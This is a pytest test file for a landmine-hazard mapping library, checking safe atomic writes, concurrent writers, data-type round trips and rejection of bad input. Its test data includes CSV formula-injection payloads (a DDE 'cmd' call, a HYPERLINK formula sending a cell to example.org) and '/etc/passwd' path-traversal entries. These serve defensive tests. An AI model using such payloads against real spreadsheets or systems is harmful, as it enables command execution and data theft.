"""Files are written whole or not at all, replace others only when asked, and come back."""

import errno
import hashlib
import json
import os
import re
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import textwrap
from contextlib import closing
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from shapely import Point

import minemap
from minemap.errors import ArgumentError, MinemapWarning, ReadError, WriteError
from minemap.saving import saving

TEXTS = [
    "a\rb", "a\r\nb", "a\nb", "'=x", "''=x", "'quoted'", "=1+1", "+1", "-1", "@x", "a,b;c", '"',
    "-", "a;=1+1;b", "a;'=1", "x\t\t=1", "a\n=1+1", "a\r\n\t'@x", ";;-1",
    '=HYPERLINK("http://example.org/?"&A1,"click")', "=cmd|' /C calc'!A0", "\uff1d1",
]  # fmt: skip


def hazards(names):
    return gpd.GeoDataFrame(
        {
            "hazard_id": [f"H{n}" for n in range(len(names))],
            "category": "SHA",
            "reported_on": pd.Timestamp("2015-01-31"),
            "name": names,
        },
        geometry=[Point(-78, -4).buffer(0.001)] * len(names),
        crs=4326,
    )


# Texts of a CSV


def objects(*cells):
    return pd.Series(cells, dtype=object)


ODD = {
    "flag": objects(True, None),
    "number": objects(2**53 + 1, None),
    "mixed": objects(7, "7a"),
    "bytes": objects(b"\xff", None),
    "beyond": objects(2**70, 1),
    "kind": objects(2**53 + 1, None).astype("category"),
    "like": objects('{"a":1}', "[1,2]"),
    "span": pd.to_timedelta(["1D", "2D"]),
}
READ = {
    "mixed": ["7", "7a"], "bytes": ["ff"], "beyond": [str(2**70), "1"],
    "span": ["1 days", "2 days"],
}  # fmt: skip


@pytest.mark.parametrize("end", [".gpkg", ".geojson", ".fgb", ".parquet", ".csv", ".kml", "ledger"])
def test_odd_cells_come_back_as_they_were_or_as_their_texts(end, tmp_path):
    table = hazards(["a", "b"]).assign(**ODD)
    if end == "ledger":
        kept = minemap.Ledger(table).to_parquet(tmp_path / "ledger")
        read = minemap.Ledger.from_parquet(kept, table).hazards
        assert read["mixed"].tolist() == ["7", "7a"]
        return
    read = minemap.read_hazards(minemap.write(table, tmp_path / f"record{end}"))
    for name, given in ODD.items():
        wanted = READ.get(name, [cell for cell in given if not pd.isna(cell)])
        found = [cell for cell in read[name] if not pd.isna(cell)]
        if name == "span":
            assert [text.split(" 00")[0] for text in found] == wanted
        elif end == ".kml" and name == "flag":
            assert found == [True]
        else:
            assert [str(cell) for cell in found] == [str(cell) for cell in wanted], name


def test_times_finer_than_a_millisecond_are_told_where_they_are_cut(tmp_path):
    table = hazards(["a"]).assign(edited=pd.to_datetime(["2020-05-05T12:34:56.789012"]))
    with pytest.warns(MinemapWarning, match="edited: times are kept to the millisecond"):
        minemap.write(table, tmp_path / "record.gpkg")
    read = minemap.read_hazards(minemap.write(table, tmp_path / "record.parquet"))
    assert read["edited"].tolist() == table["edited"].tolist()


def test_the_first_day_that_excel_has_comes_back(tmp_path):
    days = pd.to_datetime(["1900-01-01", "1900-01-02"])
    table = hazards(["a", "b"]).assign(reported_on=days)
    read = minemap.read_hazards(minemap.write(table, tmp_path / "record.xlsx"))
    assert read["reported_on"].tolist() == list(days)


@pytest.mark.parametrize("number", [1e300, 5e-324])
def test_a_shapefile_refuses_a_number_that_it_would_change(number, tmp_path):
    with pytest.raises(WriteError, match="decimals of a number"):
        minemap.write(hazards(["a"]).assign(share=number), tmp_path / "record.shp")


def test_json_refuses_a_number_without_end(tmp_path):
    with pytest.raises(WriteError, match="an infinite number, and JSON has none"):
        minemap.write(hazards(["a"]).assign(share=float("inf")), tmp_path / "record.geojson")


@pytest.mark.parametrize("end", [".csv", ".kml"])
def test_the_first_day_of_all_keeps_its_zeros(end, tmp_path):
    seen = pd.Series(["0001-01-01"], dtype="datetime64[us]")
    read = minemap.read_hazards(
        minemap.write(hazards(["a"]).assign(seen=seen), tmp_path / f"record{end}")
    )
    assert str(read["seen"].iloc[0]).startswith("0001-01-01")


def test_an_empty_point_is_no_place_on_a_globe(tmp_path):
    table = hazards(["a"]).assign(reported_m2=5.0).set_geometry([Point()], crs=4326)
    read = minemap.read_hazards(minemap.write(table, tmp_path / "record.kml"))
    assert read.geometry.isna().all()


@pytest.mark.skipif(os.name == "nt", reason="Windows has no such file")
def test_a_pipe_is_not_replaced(tmp_path):
    os.mkfifo(tmp_path / "record.csv")
    with pytest.raises(WriteError, match="a device or pipe"):
        minemap.write(hazards(["a"]), tmp_path / "record.csv", overwrite=True)


@pytest.mark.parametrize("safe_for", [None, "spreadsheets"])
def test_every_text_of_a_csv_comes_back_as_it_was(safe_for, tmp_path):
    path = minemap.write(hazards(TEXTS), tmp_path / "record.csv", safe_for=safe_for)
    assert minemap.read_hazards(path)["name"].tolist() == TEXTS


def test_a_csv_that_is_safe_for_spreadsheets_has_no_cell_that_is_a_formula(tmp_path):
    import csv

    texts = [*TEXTS, "\t=x", "\r=x"]
    table = hazards(texts).rename(columns={"name": "=cmd|1"})
    path = minemap.write(table, tmp_path / "record.csv", safe_for="spreadsheets")
    with path.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert len(cells) == 5 * (1 + len(texts))
    # Where lists have semicolons, a spreadsheet parts cells at these; quotes keep no line whole.
    parts = [part for cell in cells for part in re.split("[;\t\r\n]", cell)]
    for cell in (*cells, *parts):
        assert not cell.lstrip(" ").startswith(tuple("=+-@\t\r\uff1d"))
    assert "=cmd|1" in minemap.read_hazards(path).columns


def test_numbers_below_nothing_stay_numbers(tmp_path):
    table = hazards(["a"]).assign(height=[-4.5])
    path = minemap.write(table, tmp_path / "record.csv", safe_for="spreadsheets")
    assert ",-4.5," in path.read_text("utf-8") or ",-4.5\n" in path.read_text("utf-8")


def test_other_formats_need_no_such_care(tmp_path):
    with pytest.raises(ArgumentError, match="safe_for= is of CSV"):
        minemap.write(hazards(["a"]), tmp_path / "record.gpkg", safe_for="spreadsheets")
    with pytest.raises(ArgumentError, match="safe_for='excel' is not known"):
        minemap.write(hazards(["a"]), tmp_path / "record.csv", safe_for="excel")


LARGE = [-(2**62), 2**63 - 1, -(2**63), 2**60 + 1, -(10**18) + 1, 10**18 - 1]


@pytest.mark.parametrize("other", [1, None])
@pytest.mark.parametrize("end", ["gpkg", "geojson", "geojsonl", "fgb", "parquet", "csv", "kml"])
def test_large_whole_numbers_keep_their_digits(end, other, tmp_path):
    table = hazards(["a", "b"])
    for n, number in enumerate(LARGE):
        table[f"code{n}"] = pd.array([number, other], dtype="Int64")
    read = minemap.read_hazards(minemap.write(table, tmp_path / f"record.{end}"))
    for n, number in enumerate(LARGE):
        first, second = read[f"code{n}"]
        assert first == number
        assert not isinstance(first, float)
        assert second == other if other else pd.isna(second)


@pytest.mark.parametrize("number", LARGE[:5])
def test_a_shapefile_is_not_written_with_numbers_that_it_rounds(number, tmp_path):
    table = hazards(["a"]).assign(code=number)
    with pytest.raises(WriteError, match=f"column code has {number}, and a Shapefile keeps 18"):
        minemap.write(table, tmp_path / "record.shp")


def test_ids_of_a_shapefile_keep_their_digits(tmp_path):
    table = hazards(["a", "b"]).assign(hazard_id=[2**60 + 1, 7], reported_on="2015-01-31")
    table = table.rename(columns={"reported_on": "reported_o"})
    table.to_file(tmp_path / "record.shp")
    read = minemap.read_hazards(tmp_path / "record.shp")
    assert read["hazard_id"].tolist() == [str(2**60 + 1), "7"]


@pytest.mark.parametrize("end", ["geojson", "geojsonl"])
def test_ids_beyond_64_bits_are_told_apart(end, tmp_path):
    ids = [2**64 + 1, 2**64 + 2, 7]
    features = [
        {
            "type": "Feature",
            "properties": {"hazard_id": id_, "category": "SHA", "reported_on": "2015-01-31"},
            "geometry": {"type": "Point", "coordinates": [36, 48]},
        }
        for id_ in ids
    ]
    path = tmp_path / f"record.{end}"
    whole = json.dumps({"type": "FeatureCollection", "features": features})
    path.write_text(whole if end == "geojson" else "\n".join(map(json.dumps, features)))
    read, _ = minemap.read_hazards(path, on_reject="return")
    assert read["hazard_id"].tolist() == [str(id_) for id_ in ids]


@pytest.mark.parametrize("end", ["csv", "gpkg", "geojson", "geojsonl", "fgb", "shp", "zip", "kml"])
def test_a_nul_is_refused_with_its_row_and_column(end, tmp_path):
    path = tmp_path / f"record.{end}"
    with pytest.raises(WriteError, match="row 1, column name: the character NUL"):
        minemap.write(hazards(["a", "b\x00c"]), path)
    assert list(tmp_path.iterdir()) == []


# Two writers, permissions, what is left over


@pytest.fixture(params=["links", "no links"])
def file_system(request, monkeypatch):
    """A file system as of Linux, and one without second names of a file, as of a USB stick."""
    if request.param == "no links":

        def refuse(*_):
            raise OSError(errno.EPERM, "Operation not permitted")

        monkeypatch.setattr(Path, "hardlink_to", refuse)


@pytest.mark.usefixtures("file_system")
def test_of_two_writers_at_once_one_is_refused(tmp_path):
    path = tmp_path / "note.txt"
    slow = saving(path)
    slow.__enter__().write_text("slow")
    with saving(path) as quick:
        quick.write_text("quick")
    with pytest.raises(WriteError, match="is there already"):
        slow.__exit__(None, None, None)
    assert path.read_text() == "quick"
    assert [file.name for file in tmp_path.iterdir()] == ["note.txt"]


@pytest.mark.usefixtures("file_system")
def test_a_shapefile_that_meets_another_takes_its_parts_back(tmp_path):
    path = tmp_path / "areas.shp"
    mine = saving(path)
    draft = mine.__enter__()
    for end in (".shp", ".dbf", ".shx"):
        draft.with_suffix(end).write_text("mine")
    path.write_text("theirs")
    with pytest.raises(WriteError, match="is there already"):
        mine.__exit__(None, None, None)
    assert {file.name: file.read_text() for file in tmp_path.iterdir()} == {"areas.shp": "theirs"}


def test_four_processes_that_write_one_file_leave_one_result(tmp_path):
    code = textwrap.dedent(
        """
        import sys, time
        from minemap.saving import saving
        from minemap.errors import WriteError
        try:
            with saving(sys.argv[1]) as draft:
                draft.write_text(sys.argv[2])
                time.sleep(0.3)
            print("wrote", sys.argv[2])
        except WriteError:
            print("refused")
        """
    )
    path = tmp_path / "note.txt"
    runs = [
        subprocess.Popen(
            [sys.executable, "-c", code, path, str(n)], stdout=subprocess.PIPE, text=True
        )
        for n in range(4)
    ]
    said = [run.communicate()[0].strip() for run in runs]
    assert sorted(word.split()[0] for word in said) == ["refused"] * 3 + ["wrote"]
    assert f"wrote {path.read_text()}" in said


@pytest.mark.skipif(os.name == "nt", reason="Windows has no such modes")
@pytest.mark.parametrize("mode", [0o600, 0o640, 0o664])
def test_who_may_read_a_file_is_kept_when_it_is_replaced(mode, tmp_path):
    path = minemap.write(hazards(["a"]), tmp_path / "record.gpkg")
    path.chmod(mode)
    minemap.write(hazards(["b"]), path, overwrite=True)
    assert stat.S_IMODE(path.stat().st_mode) == mode


@pytest.mark.skipif(os.name == "nt", reason="processes are asked for on POSIX alone")
def test_what_a_killed_writer_left_is_named_by_the_next(tmp_path):
    code = textwrap.dedent(
        """
        import sys, time
        from minemap.saving import saving
        with saving(sys.argv[1]) as draft:
            draft.write_text("half of a secret")
            print("writing", flush=True)
            time.sleep(60)
        """
    )
    run = subprocess.Popen(
        [sys.executable, "-c", code, tmp_path / "note.txt"], stdout=subprocess.PIPE, text=True
    )
    run.stdout.readline()
    with saving(tmp_path / "other.txt") as draft:  # while it is at work, nothing is said
        draft.write_text("whole")
    run.send_signal(signal.SIGKILL)
    run.wait()
    run.stdout.close()
    (left,) = tmp_path.glob(".minemap-*")
    assert stat.S_IMODE(left.stat().st_mode) == 0o700
    with (
        pytest.warns(MinemapWarning, match=f"{left.name}: left by a writer of minemap"),
        saving(tmp_path / "third.txt") as draft,
    ):
        draft.write_text("whole")


def test_a_fault_on_the_way_out_of_a_full_disk_is_told_as_that(tmp_path):
    def fill():
        try:
            raise OSError(errno.ENOSPC, "No space left on device")
        finally:
            raise AttributeError("'Stream' object has no attribute 'pos'")

    with (
        pytest.raises(WriteError, match="cannot be written: No space left"),
        saving(tmp_path / "a"),
    ):
        fill()
    with pytest.raises(AttributeError), saving(tmp_path / "a"):
        raise AttributeError("of another kind")
    assert list(tmp_path.iterdir()) == []


# Ledgers in folders


def test_of_two_ledgers_written_at_once_one_is_refused(tmp_path):
    from minemap.sweep.archive import close_archive, drafting

    one = drafting(tmp_path / "ledger")
    two = drafting(tmp_path / "ledger")
    for writer in (one, two):
        close_archive(writer.__enter__(), {})
    one.__exit__(None, None, None)
    with pytest.raises(WriteError, match="is there already"):
        two.__exit__(None, None, None)
    assert [path.name for path in tmp_path.iterdir()] == ["ledger"]


@pytest.fixture
def kept(tmp_path):
    return minemap.Ledger(hazards(["a"])).to_parquet(tmp_path / "ledger")


def test_a_ledger_that_is_replaced_leaves_what_is_not_its_own(kept):
    (kept / "note.txt").write_text("mine")
    (kept / "photos").mkdir()
    (kept / "photos" / "one.jpg").write_text("mine too")
    minemap.Ledger(hazards(["a", "b"])).to_parquet(kept, overwrite=True)
    assert (kept / "note.txt").read_text() == "mine"
    assert (kept / "photos" / "one.jpg").read_text() == "mine too"
    assert len(minemap.Ledger.from_parquet(kept).hazards) == 2


@pytest.mark.parametrize(
    "files",
    [
        None, [1], {"../../../../etc/passwd": "0"}, {"/etc/passwd": "0"},
        {"hazards/../x.parquet": "0"}, {"hazards/0000.parquet": 7},
    ],
)  # fmt: skip
def test_what_a_ledger_says_of_its_files_leads_nowhere(files, kept):
    path = kept / "ledger.json"
    told = json.loads(path.read_text())
    path.write_text(json.dumps({**told, "files": files}))
    with pytest.raises(ReadError, match="no file of a ledger|does not say which files") as caught:
        minemap.Ledger.from_parquet(kept)
    assert "differs" not in str(caught.value)


@pytest.mark.parametrize("text", ["[1]", "[" * 100_000, "null", "{}"])
def test_a_ledger_that_says_nothing_is_one_error(text, kept):
    (kept / "ledger.json").write_text(text)
    with pytest.raises(ReadError):
        minemap.Ledger.from_parquet(kept)


@pytest.mark.skipif(os.name == "nt", reason="links need a right there")
def test_a_part_that_is_a_link_is_refused(kept, tmp_path):
    (part,) = (kept / "hazards").glob("*.parquet")
    elsewhere = tmp_path / "elsewhere.parquet"
    part.rename(elsewhere)
    part.symlink_to(elsewhere)
    with pytest.raises(ReadError, match="leads out of the folder"):
        minemap.Ledger.from_parquet(kept)


# Inputs


READERS = {
    "hazards": lambda path: minemap.read_hazards(path)["name"].iloc[0],
    "parts": lambda path: next(iter(minemap.read_in_parts(path, "hazards", rows=1)))[0][
        "name"
    ].iloc[0],
    "layers": lambda path: minemap.layers(path)["rows"].tolist(),
    "record": lambda path: minemap.read_record(path, releases=False).hazards["name"].iloc[0],
    "tiles": lambda path: minemap.maps.base_layer(path).bounds[0] < -179,
}


def logged(path, *, name="new"):
    """Leave changes of a file of SQLite in the log beside it, as a program that has it open."""
    with closing(sqlite3.connect(path)) as database:
        database.execute("PRAGMA journal_mode=WAL")
        for measure in ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):
            database.create_function(measure, 1, lambda _: 0)  # the index of places asks for them
        database.execute(f"UPDATE hazards SET name = '{name}'")
        database.commit()
        whole, log = path.read_bytes(), Path(f"{path}-wal").read_bytes()
    path.write_bytes(whole)
    Path(f"{path}-wal").write_bytes(log)
    return path


def states(folder):
    return {
        one.name: (hashlib.sha256(one.read_bytes()).hexdigest(), one.stat().st_mtime_ns)
        for one in folder.iterdir()
    }


@pytest.mark.parametrize("what", READERS)
def test_reading_leaves_a_file_with_a_log_beside_it_as_it_was(what, tmp_path):
    if what == "tiles":
        path = tmp_path / "hill.mbtiles"
        with closing(sqlite3.connect(path)) as file:
            file.execute("CREATE TABLE metadata (name, value)")
            file.execute("CREATE TABLE tiles (zoom_level, tile_column, tile_row, tile_data)")
            file.execute("CREATE TABLE hazards (name)")
            file.execute("INSERT INTO tiles VALUES (1, 0, 0, ?)", [b"\x89PNG"])
            file.commit()
        logged(path)
    else:
        path = logged(minemap.write({"hazards": hazards(["old"])}, tmp_path / "record.gpkg"))
    before = states(tmp_path)
    assert len(before) == 2
    found = READERS[what](path)
    assert states(tmp_path) == before
    assert found == {"layers": [1], "tiles": True}.get(what, "new")


def test_a_log_that_has_changed_is_read_again_and_a_file_with_one_is_not_replaced(tmp_path):
    path = logged(minemap.write({"hazards": hazards(["old"])}, tmp_path / "record.gpkg"))
    assert minemap.read_hazards(path)["name"].tolist() == ["new"]
    logged(path, name="newer still")
    assert minemap.read_hazards(path)["name"].tolist() == ["newer still"]
    with pytest.raises(WriteError, match="another program has it open"):
        minemap.write({"hazards": hazards(["next"])}, path, overwrite=True)


def test_a_file_in_the_midst_of_a_change_is_left_alone(tmp_path):
    path = minemap.write({"hazards": hazards(["old"])}, tmp_path / "record.gpkg")
    other = tmp_path / "other.gpkg"
    shutil.copyfile(path, other)
    with closing(sqlite3.connect(path, isolation_level=None)) as database:
        database.execute("PRAGMA cache_size=1")
        database.execute("BEGIN")
        database.execute("CREATE TABLE filler (cell)")
        database.executemany("INSERT INTO filler VALUES (?)", [("x" * 4000,)] * 50)
        shutil.copyfile(path, other)
        shutil.copyfile(f"{path}-journal", f"{other}-journal")
        database.execute("ROLLBACK")
    before = states(tmp_path)
    with pytest.raises(ReadError, match="a change of it has not ended"):
        minemap.read_hazards(other)
    assert states(tmp_path) == before
    assert minemap.read_hazards(path)["name"].tolist() == ["old"]
